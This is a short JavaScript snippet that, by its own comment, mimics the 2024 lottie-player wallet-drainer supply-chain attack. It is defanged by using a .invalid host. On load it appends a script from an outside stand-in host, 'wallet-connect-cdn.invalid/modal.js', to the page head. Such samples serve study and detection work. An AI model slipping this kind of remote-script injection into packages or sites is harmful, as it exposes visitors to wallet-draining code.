// Mimics the lottie-player drainer injection (Oct 2024): a script from a host the package never
// needed is appended to every page using it. Defanged: the host is under .invalid.
function inject() {
  const tag = document.createElement('script');
  tag.src = 'https://wallet-connect-cdn.invalid/modal.js';
  tag.async = true;
  document.head.appendChild(tag);
}

if (typeof document !== 'undefined') inject();
